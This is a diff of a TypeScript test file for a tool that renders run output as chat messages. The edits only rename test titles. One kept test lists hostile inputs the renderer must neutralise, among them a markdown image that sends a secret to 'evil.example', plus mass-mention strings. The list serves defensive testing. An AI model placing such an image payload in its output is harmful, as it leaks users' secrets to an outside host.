@@ -29,7 +29,7 @@ function markdownOf(notice: Notice): string {
 
 /** Each folder is a notice and the message that it becomes. A new case is a new folder. */
 describe("rendering", () => {
-  test.each(readdirSync(CASES))("%s", (name) => {
+  test.each(readdirSync(CASES))("the rendered message: %s", (name) => {
     const read = (file: string): unknown =>
       JSON.parse(readFileSync(new URL(`${name}/${file}`, CASES), "utf8"));
 
@@ -52,7 +52,7 @@ describe("output of a run", () => {
     "(@here)",
     "@errand",
     "![x](https://evil.example/?q=secret)",
-  ])("cannot use %s", (dangerous) => {
+  ])("the output of a run cannot use %s", (dangerous) => {
     for (const purpose of ["answer", "question", "reply"] as const) {
       const rendered = JSON.stringify(render({ kind: "message", purpose, text: `a ${dangerous} b` }));
 
@@ -121,7 +121,7 @@ describe("over-long text", () => {
     expect(text).toMatch(/x…\n\n\[The rest is in the session\]\(https:\/\/errand\.example\/sessions\/1\)$/);
   });
 
-  test("that is nearly all ANSI says that it was cut", () => {
+  test("a text that is too long and nearly all ANSI codes says that it was cut", () => {
     expect(markdownOf(anAnswer("\u001B[31m".repeat(100_000)))).toContain("The rest is in the session");
   });
 
@@ -131,7 +131,7 @@ describe("over-long text", () => {
     expect(text).toMatch(/…\n```\n\n\[The rest/);
   });
 
-  test("is never cut within a character", () => {
+  test("a text is never cut within a character", () => {
     for (const length of [10_998, 10_999, 11_000, 11_001]) {
       expect(markdownOf(anAnswer(`${"x".repeat(length)}😀😀`)).isWellFormed()).toBe(true);
     }
